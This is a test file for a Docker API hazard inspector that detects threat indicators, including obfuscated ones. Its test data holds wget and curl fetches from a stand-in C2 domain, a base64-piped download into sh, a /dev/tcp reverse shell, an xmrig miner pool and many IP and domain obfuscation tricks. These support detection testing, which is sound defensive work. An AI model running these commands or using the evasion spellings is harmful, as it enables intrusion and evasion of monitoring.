import t from 'tap';
import type { Call } from '../../src/docker/call.js';
import type { JsonObject } from '../../src/base/json.js';
import type { OperationId } from '../../src/docker/operation.js';
import { inspect } from '../../src/hazards/inspect.js';
import { formatHazard } from '../../src/hazards/inspection.js';
import { MAX_MATCHES } from '../../src/hazards/indicator-search.js';
import { indexOf } from '../support/indicators.js';
import { create, makeCall, service } from './make-call.js';

const MD5 = 'd41d8cd98f00b204e9800998ecf84000';
const SHA256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b800';

const index = indexOf([
  ['domain', 'c2.evil.example'],
  ['domain', 'xn--bcher-kva.example'],
  ['ipv4', '198.51.100.66'],
  ['ipv4', '127.0.0.66'],
  ['ipv6', '2001:db8::66'],
  ['url', 'shared.example/dock/main.sh'],
  ['hash', MD5],
  ['hash', SHA256],
]);

const NAME = 'c2.evil.example';
const HOST = '198.51.100.66';
const b64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');

const indicators = (call: Call): string[] =>
  inspect(call, index)
    .hazards.filter(({ kind }) => kind === 'indicator')
    .map(({ argument }) => argument);

/** Where each was seen. */
const places = (call: Call): string[] =>
  (inspect(call, index).matches ?? []).map(({ hit, where }) => `${hit.indicator} ${where}`);

const run = (...Cmd: string[]): Call => create({}, { Cmd });
const sh = (text: string): Call => run('sh', '-c', text);
const env = (...Env: string[]): Call => create({}, { Env });
const build = (dockerfile: string, buildargs: JsonObject = {}): Call =>
  makeCall('ImageBuild', { dockerfile, query: { buildargs } });
const step = (text: string): Call => build(`FROM alpine\n${text}\n`);
const body = (id: OperationId, value: JsonObject): Call => makeCall(id, { body: value });

/** What names an indicator, the call, and where it stands; by default the indicator is the domain. */
const SEEN: readonly (readonly [string, Call, string, string?])[] = [
  // ---- every place of a call
  ['the name of a container', makeCall('ContainerCreate', { query: { name: NAME }, body: {} }), '?name'],
  ['the image of a container', body('ContainerCreate', { Image: `${NAME}:5000/app:1` }), '/Image'],
  ['an image by its digest', body('ContainerCreate', { Image: `app@sha256:${SHA256}` }), '/Image', SHA256],
  ['a numeric registry', body('ContainerCreate', { Image: '3325256770:5000/app' }), '/Image', HOST],
  ['a command', run('wget', `http://${NAME}/x`), '/Cmd/1'],
  ['an entrypoint', create({}, { Entrypoint: ['/bin/x', NAME] }), '/Entrypoint/1'],
  [
    'an entrypoint and its argument',
    create({}, { Entrypoint: ['wget', '-q'], Cmd: ['3325256770'] }),
    '/Cmd',
    HOST,
  ],
  ['a variable', env('A=1', `POOL=stratum+tcp://${NAME}:3333`), '/Env/1'],
  [
    'a health check',
    create({}, { Healthcheck: { Test: ['CMD-SHELL', `curl ${NAME}`] } }),
    '/Healthcheck/Test/1',
  ],
  ['a label', create({}, { Labels: { 'x/y': NAME } }), '/Labels/x~1y'],
  ['the key of a label', create({}, { Labels: { [NAME]: 'x' } }), `/Labels/${NAME}`],
  ['the host name', create({}, { Hostname: NAME }), '/Hostname'],
  ['the domain name', create({}, { Domainname: 'evil.example', Hostname: 'c2' }), '', ''],
  ['a trigger', create({}, { OnBuild: [`RUN curl ${NAME}`] }), '/OnBuild/0'],
  [
    'an extra host',
    create({ ExtraHosts: ['registry.ci.example:127.0.0.66'] }),
    '/HostConfig/ExtraHosts/0',
    '127.0.0.66',
  ],
  [
    'an extra host, IPv6',
    create({ ExtraHosts: ['a:2001:db8:0:0::66'] }),
    '/HostConfig/ExtraHosts/0',
    '2001:db8::66',
  ],
  ['an extra host by its name', create({ ExtraHosts: [`${NAME}:10.0.0.1`] }), '/HostConfig/ExtraHosts/0'],
  ['a resolver', create({ Dns: [HOST] }), '/HostConfig/Dns/0', HOST],
  ['a numeric resolver', create({ Dns: ['3325256770'] }), '/HostConfig/Dns/0', HOST],
  ['a search domain', create({ DnsSearch: [NAME] }), '/HostConfig/DnsSearch/0'],
  [
    'a log endpoint',
    create({ LogConfig: { Type: 'syslog', Config: { 'syslog-address': `tcp://${HOST}:514` } } }),
    '/HostConfig/LogConfig/Config/syslog-address',
    HOST,
  ],
  [
    'a volume driver of a mount',
    create({
      Mounts: [
        {
          Type: 'volume',
          VolumeOptions: { DriverConfig: { Options: { o: 'addr=127.0.0.66', type: 'nfs' } } },
        },
      ],
    }),
    '/HostConfig/Mounts/0/VolumeOptions/DriverConfig/Options/o',
    '127.0.0.66',
  ],
  [
    'a volume, numeric',
    body('VolumeCreate', { DriverOpts: { o: 'addr=2130706498,rw' } }),
    '/DriverOpts/o',
    '127.0.0.66',
  ],
  [
    'a CIFS share',
    body('VolumeCreate', { DriverOpts: { device: `//${HOST}/share` } }),
    '/DriverOpts/device',
    HOST,
  ],
  [
    'a network driver',
    body('NetworkCreate', { Options: { remote: `${HOST}:4789` } }),
    '/Options/remote',
    HOST,
  ],
  ['a link', create({ Links: [`db:${NAME}`] }), '/HostConfig/Links/0'],
  [
    'a network alias',
    create({}, { NetworkingConfig: { EndpointsConfig: { n: { Aliases: [NAME] } } } }),
    '/NetworkingConfig/EndpointsConfig/n/Aliases/0',
  ],
  ['an exec', makeCall('ContainerExec', { path: { id: 'a' }, body: { Cmd: ['curl', NAME] } }), '/Cmd/1'],
  [
    'the environment of an exec',
    makeCall('ContainerExec', { path: { id: 'a' }, body: { Env: [`P=${NAME}`] } }),
    '/Env/0',
  ],
  ['a service', service({ Command: ['curl', NAME] }), '/TaskTemplate/ContainerSpec/Command/1'],
  [
    'hosts of a service',
    service({ Hosts: [`${HOST} registry`] }),
    '/TaskTemplate/ContainerSpec/Hosts/0',
    HOST,
  ],
  [
    'resolvers of a service',
    service({ DNSConfig: { Nameservers: [HOST] } }),
    '/TaskTemplate/ContainerSpec/DNSConfig/Nameservers/0',
    HOST,
  ],
  [
    'a log driver of a service',
    service({}, { LogDriver: { Name: 'gelf', Options: { a: `udp://${NAME}` } } }),
    '/TaskTemplate/LogDriver/Options/a',
  ],
  ['a plugin', makeCall('PluginPull', { query: { remote: `${NAME}/p:1` }, body: {} }), '?remote'],
  ['a swarm', body('SwarmJoin', { RemoteAddrs: [`${HOST}:2377`] }), '/RemoteAddrs/0', HOST],
  ['a numeric manager', body('SwarmJoin', { RemoteAddrs: ['3325256770:2377'] }), '/RemoteAddrs/0', HOST],
  [
    'an external CA',
    body('SwarmInit', { Spec: { CAConfig: { ExternalCAs: [{ URL: `https://${NAME}` }] } } }),
    '/Spec/CAConfig/ExternalCAs/0/URL',
  ],
  ['a config', body('ConfigCreate', { Name: 'c', Data: b64(`upstream ${NAME};`) }), '/Data'],
  ['a login', body('SystemAuth', { serveraddress: `https://${NAME}/v2/` }), '/serveraddress'],
  ['a pull', makeCall('ImageCreate', { query: { fromImage: `${NAME}/app`, tag: '1' } }), '?fromImage'],
  ['an import', makeCall('ImageCreate', { query: { fromSrc: `http://${HOST}/i.tar` } }), '?fromSrc', HOST],
  [
    'changes of an import',
    makeCall('ImageCreate', { query: { fromSrc: '-', changes: ['ENV A=c2.evil', 'CMD wget $A.example'] } }),
    '?changes',
  ],
  ['a push', makeCall('ImagePush', { path: { name: `${NAME}/app` } }), 'path name'],
  [
    'a registry question',
    makeCall('DistributionInspect', { path: { name: `${HOST}:8066/x:1` } }),
    'path name',
    HOST,
  ],
  ['a search', makeCall('ImageSearch', { query: { term: `${NAME}/x` } }), '?term'],
  [
    'credentials for a registry',
    makeCall('ImagePush', { headers: { 'x-registry-auth': btoa(`{"serveraddress":"${NAME}"}`) } }),
    'header x-registry-auth',
  ],
  [
    'credentials for several',
    makeCall('ImageBuild', { headers: { 'x-registry-config': btoa(`{"${HOST}:5000":{"username":"a"}}`) } }),
    'header x-registry-config',
    HOST,
  ],
  ['a remote context', makeCall('ImageBuild', { query: { remote: `https://${NAME}/x.git` } }), '?remote'],
  [
    'a numeric remote context',
    makeCall('ImageBuild', { query: { remote: 'http://3325256770/x.git' } }),
    '?remote',
    HOST,
  ],
  [
    'a listed URL',
    makeCall('ImageBuild', { query: { remote: 'https://shared.example/dock/main.sh' } }),
    '?remote',
    'shared.example/dock/main.sh',
  ],
  [
    'an extra host of a build',
    makeCall('ImageBuild', { query: { extrahosts: ['r.ci.example:127.0.0.66'] } }),
    '?extrahosts',
    '127.0.0.66',
  ],
  [
    'a build argument',
    build('FROM alpine\n', { HTTP_PROXY: `http://${NAME}:3128` }),
    '?buildargs/HTTP_PROXY',
  ],
  ['a label of a build', makeCall('ImageBuild', { query: { labels: { a: NAME } } }), '?labels/a'],
  ['a cache', makeCall('ImageBuild', { query: { cachefrom: [`${NAME}/cache`] } }), '?cachefrom'],
  [
    'an exporter',
    makeCall('ImageBuild', { query: { outputs: { json: [{ Attrs: { name: `${NAME}/x` } }] } } }),
    '?outputs/0/Attrs/name',
  ],
  [
    'a field nobody knows',
    body('ContainerCreate', { HostConfig: { Nova: { Deep: [[NAME]] } } }),
    '/HostConfig/Nova/Deep/0/0',
  ],
  // ---- Dockerfiles
  ['ADD', step(`ADD http://${NAME}/p.sh /`), 'Dockerfile line 2'],
  ['ADD of several', step(`ADD http://127.0.0.1/a http://${HOST}/p.sh /d/`), 'Dockerfile line 2', HOST],
  ['FROM', build(`FROM ${NAME}/base\n`), 'Dockerfile line 1'],
  ['COPY --from', step(`COPY --from=${NAME}/tool /x /x`), 'Dockerfile line 2'],
  ['syntax', build(`# syntax=${NAME}/frontend\nFROM alpine\n`), 'Dockerfile line 1'],
  ['a comment', build(`FROM alpine\n# see ${NAME}\nRUN true\n`), 'Dockerfile line 2'],
  ['a comment between continued lines', step(`RUN echo a\\\n  # ${NAME}\nb`), 'Dockerfile line 3'],
  [
    'a stage that is not built',
    makeCall('ImageBuild', { dockerfile: `FROM alpine AS a\nFROM ${NAME}/x\n`, query: { target: 'a' } }),
    'Dockerfile line 2',
  ],
  ['a continuation', step('RUN wget http://c2.ev\\\nil.example/p.sh'), 'Dockerfile line 2'],
  [
    'another escape',
    build('# escape=`\nFROM alpine\nRUN wget http://c2.ev`\nil.example/p\n'),
    'Dockerfile line 3',
  ],
  [
    'a continuation with a comment in it',
    step('RUN wget http://c2.ev\\\n# x\nil.example/p.sh'),
    'Dockerfile line 2',
  ],
  ['quotes', step(`RUN wget c2.e''vil."example"`), 'Dockerfile line 2'],
  ['the exec form, escaped', step('RUN ["wget", "http:\\/\\/c2\\u002eevil.example"]'), 'Dockerfile line 2'],
  ['ARG before FROM', build('ARG R=c2.evil\nARG D=example\nFROM $R.$D/base\n'), 'Dockerfile line 3'],
  ['ENV', step('ENV A=c2.evil\nRUN wget $A.example'), 'Dockerfile line 3'],
  [
    'ENV of another stage',
    build('FROM alpine AS a\nENV A=c2.evil\nFROM a\nRUN wget ${A}.example\n'),
    'Dockerfile line 4',
  ],
  [
    'ARG by the call',
    build('FROM alpine\nARG H\nRUN wget $H.example\n', { H: 'c2.evil' }),
    'Dockerfile line 3',
  ],
  ['a default', step('RUN wget ${H:-c2.evil}.example'), 'Dockerfile line 2'],
  ['LABEL with a variable', step('ENV A=c2.evil\nLABEL u=$A.example'), 'Dockerfile line 3'],
  [
    'a trigger with the child’s variables',
    build('FROM alpine AS a\nONBUILD RUN wget ${A:-$B}.example\nENV B=c2.evil\nFROM a\n'),
    'Dockerfile line 2',
  ],
  ['a health check of an image', step(`HEALTHCHECK CMD wget ${NAME}`), 'Dockerfile line 2'],
  ['a number as the host of curl', step('RUN curl -s 3325256770/x'), 'Dockerfile line 2', HOST],
  ['hexadecimal as the host of nc', step('RUN nc 0xc6336442 80'), 'Dockerfile line 2', HOST],
  ['octal in ping', step('RUN ping 030614662102'), 'Dockerfile line 2', HOST],
  ['a file that does not parse', build(`FROM alpine\nRUNN wget c2.e''vil.example\n`), 'Dockerfile'],
  // ---- spellings
  ['percent-encoded twice', run('curl', 'http%253A%252F%252Fc2%252Eevil%252Eexample'), '/Cmd/1'],
  [
    'percent-encoded dots that are not ASCII',
    step('ADD http://127%E3%80%820%E3%80%820%E3%80%8266:8066/p.sh /'),
    'Dockerfile line 2',
    '127.0.0.66',
  ],
  ['full-width', env('A=http://１９８．５１．１００．６６/x'), '/Env/0', HOST],
  ['ideographic dots', env('A=198。51。100。66'), '/Env/0', HOST],
  ['a decimal URL', env('A=http://3325256770/'), '/Env/0', HOST],
  ['a hexadecimal URL', env('A=http://0xC6336442/'), '/Env/0', HOST],
  ['an octal URL', env('A=http://0306.063.0144.0102/'), '/Env/0', HOST],
  ['a short URL', env('A=http://127.66/'), '/Env/0', '127.0.0.66'],
  ['IPv4 in IPv6', step('ADD http://[::ffff:127.0.0.66]:8066/p.sh /'), 'Dockerfile line 2', '127.0.0.66'],
  ['IPv4 in IPv6, hexadecimal', env('A=http://[::ffff:c633:6442]/'), '/Env/0', HOST],
  ['NAT64', env('A=[64:ff9b::c633:6442]:80'), '/Env/0', HOST],
  ['IPv6, long', env('A=http://[2001:0db8:0000:0000:0000:0000:0000:0066]/'), '/Env/0', '2001:db8::66'],
  ['capitals', env('A=C2.Evil.EXAMPLE'), '/Env/0'],
  ['a trailing dot', env('A=c2.evil.example.'), '/Env/0'],
  ['a subdomain', env('A=a.b.c2.evil.example:443'), '/Env/0'],
  ['IDN', env('A=https://bücher.example/'), '/Env/0', 'xn--bcher-kva.example'],
  ['user and password', env(`A=https://user:pass@${NAME}/`), '/Env/0'],
  ['an address with a port', env(`A=${HOST}:3333`), '/Env/0', HOST],
  ['nip.io', env('A=http://198.51.100.66.nip.io/'), '/Env/0', HOST],
  ['sslip.io with dashes', env('A=a-198-51-100-66.sslip.io'), '/Env/0', HOST],
  ['nip.io, hexadecimal', env('A=http://c6336442.nip.io/'), '/Env/0', HOST],
  // ---- commands
  ['quotes in an address', sh('wget 198.51.""100.66'), '/Cmd/2', HOST],
  ['backslashes', sh('wget c2.ev\\il.example'), '/Cmd/2'],
  ['IFS', sh('wget${IFS}c2.evil.example'), '/Cmd/2'],
  ['ANSI quotes', sh("wget $'c2.\\x65vil.example'"), '/Cmd/2'],
  ['base64', sh(`echo ${b64(`wget http://${NAME}/x`)} | base64 -d | sh`), '/Cmd/2'],
  ['base64 twice', sh(`echo ${b64(`echo ${b64(`wget ${NAME}`)}|base64 -d`)} | base64 -d`), '/Cmd/2'],
  ['hexadecimal', sh(`echo ${hex(`wget ${NAME}`)} | xxd -r -p`), '/Cmd/2'],
  ['printf', sh('wget $(printf "c2.\\145vil.example")'), '/Cmd/2'],
  ['printf with a format', sh("wget $(printf '%s.%s.example' c2 evil)"), '/Cmd/2'],
  ['backwards', sh('echo elpmaxe.live.2c | rev | xargs wget'), '/Cmd/2'],
  ['an assignment', sh('A=c2.evil;B=example;wget $A.$B'), '/Cmd/2'],
  [
    'the environment',
    create({}, { Env: ['A=c2.evil', 'B=example'], Cmd: ['sh', '-c', 'wget $A.$B'] }),
    '/Cmd/2',
  ],
  [
    'the environment of an exec, in it',
    makeCall('ContainerExec', {
      path: { id: 'a' },
      body: { Env: ['A=c2.evil'], Cmd: ['sh', '-c', 'wget $A.example'] },
    }),
    '/Cmd/2',
  ],
  [
    'the environment of a service',
    service({ Env: ['A=c2.evil'], Command: ['sh', '-c', 'wget $A.example'] }),
    '/TaskTemplate/ContainerSpec/Command/2',
  ],
  ['arguments of the program', run('sh', '-c', 'wget $1.$2', 'x', 'c2.evil', 'example'), '/Cmd'],
  ['a program of another language', sh(`python3 -c "urlopen('c2.' + 'evil' + '.example')"`), '/Cmd/2'],
  [
    'character codes',
    sh(`node -e "String.fromCharCode(${Array.from(NAME, (one) => one.charCodeAt(0)).join(',')})"`),
    '/Cmd/2',
  ],
  ['/dev/tcp', sh(`bash -i >& /dev/tcp/${HOST}/443 0>&1`), '/Cmd/2', HOST],
  ['a number as an argument', run('curl', '3325256770'), '/Cmd', HOST],
  ['a miner', run('xmrig', '-o', '3325256770:3333'), '/Cmd/2', HOST],
  ['a hash', sh(`test $(md5sum < x) = ${MD5}`), '/Cmd/2', MD5],
];

void t.test('indicators are found wherever the daemon reads, however they are written', (t) => {
  for (const [name, call, where, value = NAME] of SEEN) {
    if (value === '') continue;
    t.ok(places(call).includes(`${value} ${where}`), `${name}: ${places(call).join(', ') || 'nothing'}`);
    t.ok(indicators(call).includes(value), `${name} is a hazard`);
  }
  t.end();
});

const NOT: readonly (readonly [string, Call])[] = [
  ['another address of the network', env('A=198.51.100.67')],
  ['a longer address', env('A=198.51.100.661')],
  ['a version', env('A=1.2.3.4-r5')],
  ['a domain that ends in the same letters', env('A=notc2.evil.example')],
  ['a domain that begins with the same letters', env('A=c2.evil.example.org')],
  ['the parent', env('A=evil.example')],
  ['a script', run('sh', 'install.sh', './setup.py')],
  ['another path of a shared host', env('A=https://shared.example/dock/other.sh')],
  ['a number that is no host', env('BUILD=3325256770')],
  ['a number in a command that talks to nobody', run('sleep', '3325256770')],
  ['a number as a user', create({}, { User: '3325256770:3325256770' })],
  ['another digest', body('ContainerCreate', { Image: `app@sha256:${SHA256.replace('e3', 'f3')}` })],
  ['a password', makeCall('ImagePush', { headers: { 'x-registry-auth': btoa(`{"password":"${NAME}"}`) } })],
  [
    'a usual container',
    create(
      { Dns: ['10.0.0.2'], ExtraHosts: ['db:10.0.0.9'] },
      {
        Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin'],
        Cmd: ['nginx', '-g', 'daemon off;'],
      },
    ),
  ],
  [
    'a usual Dockerfile',
    step(
      'RUN apk add --no-cache curl=8.5.0-r0 && curl -fsSL https://files.example.org/v1.2.3/x.tar.gz | tar xz',
    ),
  ],
];

void t.test('near misses', (t) => {
  for (const [name, call] of NOT) {
    t.same(indicators(call), [], name);
    t.same(
      inspect(call, index).hazards.map(formatHazard),
      inspect(call).hazards.map(formatHazard),
      `${name}: no other hazard either`,
    );
  }
  t.end();
});

void t.test('indicators that only alert are recorded, and are no hazard', (t) => {
  const alerts = indexOf([['domain', NAME]], 'alert');
  const found = inspect(run('curl', NAME), alerts);
  t.same(found.hazards.map(formatHazard), []);
  t.match(found.matches, [{ hit: { indicator: NAME, feed: 'c2', action: 'alert' }, where: '/Cmd/1' }]);
  t.same(inspect(run('curl', NAME)).matches, undefined, 'nothing is looked for where nothing is listed');
  t.end();
});

void t.test('matches in a build context are part of the inspection', (t) => {
  const hit = index.domain(NAME)!;
  const matches = [{ hit, value: NAME, where: 'context file a.sh' }];
  const call = makeCall('ImageBuild', { dockerfile: 'FROM alpine\n' });
  const found = inspect(call, index, { matches, truncated: false });
  t.same(found.hazards.map(formatHazard), [`indicator:${NAME}`]);
  t.same(found.matches, matches);
  t.same(inspect(call, index, { matches: [], truncated: true }).hazards.map(formatHazard), ['opaque:text']);
  t.end();
});

void t.test('a text that cannot be searched to its end is opaque', (t) => {
  let deep = `wget http://${NAME}/x`;
  for (let level = 0; level < 6; level++) deep = b64(deep);
  const opaque = (call: Call): boolean =>
    inspect(call, index).hazards.some(({ kind, argument }) => kind === 'opaque' && argument === 'text');
  t.ok(opaque(sh(deep)), 'too many layers');
  t.ok(
    opaque(create({}, { Env: [`A=${'x'.repeat(60_000)}`], Cmd: ['sh', '-c', '$A'.repeat(1000)] })),
    'growth',
  );
  const many = Object.fromEntries(Array.from({ length: MAX_MATCHES + 1 }, (_, n) => [`k${n}`, NAME]));
  t.ok(opaque(create({}, { Labels: many })), 'too many indicators to list');
  const flood = create({}, { Env: Array.from({ length: 2000 }, (_, n) => `A${n}=$A${n - 1}$A${n - 1}`) });
  t.ok(inspect(flood, index), 'a flood of variables');
  const long = create({}, { Cmd: ['sh', '-c', 'echo a.b '.repeat(100_000)] });
  const started = performance.now();
  inspect(long, index);
  t.ok(performance.now() - started < 3000, 'a megabyte of words');
  const texts = Array.from({ length: 400 }, (_, n) => `A${n}="${'$(echo a.b) '.repeat(800)}"`);
  t.ok(opaque(create({}, { Env: texts })), 'more to decode than is decoded');
  const data = b64(`${'line of a config\n'.repeat(40_000)}upstream ${NAME};\n`);
  t.same(indicators(body('ConfigCreate', { Name: 'c', Data: data })), [NAME], 'a large config');
  t.end();
});

void t.test('a call that is all names and addresses is not searched to its end, and says so', (t) => {
  const fill = (pattern: string, length: number): string =>
    pattern.repeat(Math.ceil(length / pattern.length)).slice(0, length);
  const text = (call: Call): boolean =>
    inspect(call, index).hazards.some(({ kind, argument }) => kind === 'opaque' && argument === 'text');
  const labels = (count: number): JsonObject =>
    Object.fromEntries(Array.from({ length: count }, (_, n) => [`com.vendor.k${n}`, `v${n}.0`]));
  const large = 4 * 1024 ** 2;
  for (const pattern of [
    'a.bc de.f1 ',
    'http://a.b/c?d ',
    '1.2.3.4 ',
    'a::b ',
    `${'0f'.repeat(16)} `,
    'é.b ',
  ]) {
    t.ok(text(create({}, { Labels: { a: fill(pattern, large) } })), pattern);
  }
  t.ok(text(create({}, { Labels: labels(100_000) })), 'labels');
  t.ok(text(create({}, { Env: Array.from({ length: 400_000 }, (_, n) => `a=${n}`) })), 'variables');
  t.notOk(text(create({}, { Labels: { a: fill('the quick brown fox jumps. ', 1024 ** 2) } })), 'prose');
  t.notOk(text(create({}, { Labels: labels(5000) })), 'some labels');
  t.notOk(
    text(create({}, { Env: Array.from({ length: 5000 }, (_, n) => `A${n}=h${n}.lan`) })),
    'some variables',
  );
  t.end();
});

// The lists here are written anew: an entry that is lost or misspelt is missed.

/** 198.51.100.66 as one number: a host in some places, and only a number in all others. */
const NUMBER = '3325256770';
const field = (name: string, value: JsonObject[string]): string[] =>
  indicators(body('ContainerCreate', { [name]: value }));

void t.test('each field whose numbers are hosts', (t) => {
  for (const name of [
    ...['Dns', 'DNS', 'DnsSearch', 'ExtraHosts', 'Hosts', 'Nameservers', 'Search', 'extrahosts', 'remote'],
    ...['RemoteAddrs', 'ListenAddr', 'AdvertiseAddr', 'DataPathAddr', 'HostIp', 'serveraddress', 'URL'],
    ...['Options', 'DriverOpts', 'Config', 'fromSrc', 'ExternalIPs', 'AuxiliaryAddresses', 'Gateway'],
  ]) {
    t.same(field(name, NUMBER), [HOST], name);
    t.same(field(name, { a: NUMBER }), [HOST], `${name}, a value below it`);
    t.same(field(`My${name}`, NUMBER), [], `My${name}: only a number`);
  }
  t.end();
});

void t.test('each field that is a command, each program that connects to what its arguments name', (t) => {
  for (const name of ['Cmd', 'Entrypoint', 'Command', 'Args', 'Test', 'Shell', 'OnBuild']) {
    t.same(field(name, ['ping', NUMBER]), [HOST], name);
    t.same(field(`My${name}`, ['ping', NUMBER]), [], `My${name}: only words`);
  }
  for (const program of [
    ...[
      'ping',
      'ping6',
      'fping',
      'hping3',
      'dig',
      'nslookup',
      'host',
      'drill',
      'getent',
      'traceroute',
      'mtr',
    ],
    ...['nmap', 'masscan', 'git', 'mount', 'route', 'ip', 'iptables', 'openssl', 'xmrig', 'autossh'],
    ...['proxychains', 'wget', 'curl'],
  ]) {
    t.same(indicators(run(program, NUMBER)), [HOST], program);
    t.same(indicators(run(`my${program}`, NUMBER)), [], `my${program}: another program`);
  }
  t.end();
});

void t.test('each list whose elements have nothing to do with each other', (t) => {
  const parts = ['X=evil;', 'wget http://c2.$X.example/'];
  t.same(field('Other', parts), [NAME], 'elements of other lists are read together');
  for (const name of ['Env', 'ExtraHosts', 'Hosts', 'Binds', 'PortSpecs'])
    t.same(field(name, parts), [], name);
  t.end();
});
